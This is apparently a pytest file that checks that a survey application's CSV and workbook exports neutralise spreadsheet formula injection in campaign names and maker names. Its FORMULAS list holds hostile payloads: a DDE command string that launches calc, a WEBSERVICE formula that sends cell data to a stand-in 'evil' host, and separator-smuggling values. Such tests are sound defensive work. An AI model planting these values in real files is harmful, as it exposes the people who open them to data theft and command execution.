"""Texts that are formulas, in every name of a definition and every file of results (S37)."""

import csv
import io
import re
from typing import Any

import pytest

from survey.domain.campaign import Campaign
from survey.domain.definition import read_definition
from survey.exports.inert import inert
from survey.exports.results_csv import results_csv
from survey.exports.sheet_names import sheet_name
from survey.services.filing import Maker, workbook_of
from tests.factories.filing import a_maker
from tests.factories.released import small_document, small_released, small_results
from tests.factories.workbook import parts_of, read_book

FORMULAS = [
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    '=HYPERLINK("http://evil","甲")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil/"&A1)',
    "{=1+1}",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u3000=1",
    "\u00a0=1",
    "\ufeff=1",
    "\u200b=1",
    "甲;=1+1",
    '甲;"=1+1',
    "甲\t=1+1",
    "甲|@A1",
    "甲\n=1+1",
    "http://evil/",
    "mailto:a@b",
    "internal:A1",
    "1/2",
    "0123",
    "1e5",
    "_x003D_1",
    "&L=1",
    "]]>",
]
_SIGNS = "=+-@＝＋－＠"


def evil_campaign(text: str) -> Campaign:
    document: dict[str, Any] = small_document(title=text, organiser=text)
    for group in ("subjects", "categories", "classes"):
        document[group][0]["name"] = text
    document["subjects"][0]["post"] = text
    document["schemes"][0]["name"] = text
    document["schemes"][0]["groups"][0]["indicators"][0]["name"] = text
    scale = document["scales"][0]
    scale["choices"][0]["name"] = scale["name"] = scale["dont_know"] = text
    return read_definition(document)


def evil_maker(text: str) -> Maker:
    one = a_maker()
    return Maker(name=text, at=one.at, timezone=one.timezone, say=one.say)


def cells_by(separator: str, raw: bytes) -> list[str]:
    """Cells as a spreadsheet of a region with this separator would cut them."""
    reader = csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=separator)
    return [cell for row in reader for cell in row]


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_no_cell_of_the_table_is_run_whatever_separates_cells(text: str) -> None:
    raw = results_csv(evil_campaign(text), small_results())
    for separator in ",;\t|":
        for cell in cells_by(separator, raw):
            seen = cell.lstrip(' \u3000\u00a0\ufeff\u200b\t\r\n"')
            assert not seen.startswith(tuple(_SIGNS)), (separator, cell)


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_a_workbook_keeps_every_text_as_it_is_and_has_no_formula_or_link(text: str) -> None:
    raw = workbook_of(evil_campaign(text), small_released(), evil_maker(text))
    sheets = read_book(raw)
    assert [one for sheet in sheets for one in sheet.formulas] == []
    texts = {value for sheet in sheets for value in sheet.cells.values() if isinstance(value, str)}
    if text.isprintable():
        assert {text, f"{text} · 482910", f"{text} (50)"} <= texts
    for name, part in parts_of(raw).items():
        assert not re.search(r"<(?:f|hyperlinks?|definedName)[ >]", _without_titles(part)), name
        assert "externalLink" not in name


def _without_titles(part: str) -> str:
    """A part without the rows that are repeated in print, which have a name too."""
    titles = r"<definedName name=\"_xlnm.Print_Titles\"[^>]*>'[^<>]*'!\$\d+:\$\d+</definedName>"
    return re.sub(titles, "", part)


def test_no_text_of_a_campaign_reaches_a_header_or_a_footer() -> None:
    raw = workbook_of(evil_campaign("&L&F"), small_released(), evil_maker("&L&F"))
    for sheet in read_book(raw):
        assert "<oddFooter>&amp;C&amp;P / &amp;N</oddFooter>" in sheet.xml
        assert "oddHeader" not in sheet.xml


@pytest.mark.parametrize("text", ["甲", "a=1", "甲-乙", "A;B", "a | b", "1+1=2", ""])
def test_an_ordinary_text_stays_as_it_is(text: str) -> None:
    assert inert(text) == text


def test_names_of_sheets_are_lawful_and_never_alike() -> None:
    taken: list[str] = []
    for title in ("Votes", "votes", "a[b]:c*d?e/f\\g", "'", "长" * 40, "长" * 40):
        taken.append(sheet_name(title, taken=taken))
    assert taken == ["Votes", "votes 2", "abcdefg", "-", "长" * 31, "长" * 29 + " 2"]
